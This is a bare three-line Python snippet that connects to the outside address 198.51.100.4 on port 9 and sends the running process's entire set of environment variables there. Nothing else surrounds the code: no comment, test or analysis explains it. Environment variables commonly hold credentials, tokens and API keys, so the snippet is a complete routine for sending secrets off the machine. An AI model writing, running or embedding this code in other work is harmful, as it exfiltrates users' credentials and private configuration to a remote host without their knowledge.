import os, socket
s = socket.create_connection(('198.51.100.4', 9))
s.sendall(str(os.environ).encode())
